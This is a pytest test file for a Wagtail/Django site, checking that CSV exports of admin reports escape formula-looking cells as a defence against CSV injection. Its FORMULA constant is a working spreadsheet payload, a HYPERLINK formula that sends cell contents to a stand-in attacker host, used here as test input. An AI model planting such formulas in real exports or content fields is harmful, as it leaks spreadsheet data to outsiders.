"""Wagtail's report exports come out with formula-looking cells escaped."""

import csv
import io

import pytest
from wagtail.models import Page

from congtin.core.export_guard import escape_csv_text
from congtin.core.tests.factories import SiteFactory
from congtin.news.tests.factories import ArticlePageFactory, NewsIndexPageFactory

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'


def read_csv(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_rows_are_escaped_and_numbers_kept():
    text = '\ufefftitle,n\r\n"=1+2",-5\r\n@SUM(A1),+84 912\r\n"ok, fine",1.234,5\r\n'
    rows = list(csv.reader(io.StringIO(escape_csv_text(text)[1:])))
    assert rows == [
        ["title", "n"],
        ["'=1+2", "-5"],
        ["'@SUM(A1)", "'+84 912"],
        ["ok, fine", "1.234", "5"],
    ]
    # Escaping twice changes nothing: the project's own exports are escaped already.
    assert escape_csv_text(escape_csv_text(text)) == escape_csv_text(text)


@pytest.mark.parametrize(
    "report", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"]
)
def test_wagtail_report_csv_has_no_live_formula(client, admin_user, report):
    from django.urls import reverse

    section = NewsIndexPageFactory(parent=SiteFactory().root_page, publish=True)
    article = ArticlePageFactory(parent=section, publish=True)
    article.title = FORMULA
    article.save_revision().publish()
    client.force_login(admin_user)

    response = client.get(reverse(report), {"export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [cell for row in read_csv(response) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert Page.objects.filter(title=FORMULA).exists()


def test_public_csv_outside_the_admin_is_left_alone(rf):
    from django.http import HttpResponse

    from congtin.core.export_guard import CsvExportEscapeMiddleware

    body = b"=1+2\r\n"
    middleware = CsvExportEscapeMiddleware(
        lambda request: HttpResponse(body, content_type="text/csv")
    )
    assert middleware(rf.get("/chi-tieu/xuat.csv")).content == body
    assert middleware(rf.get("/admin/reports/x/")).content == b"'=1+2\r\n"
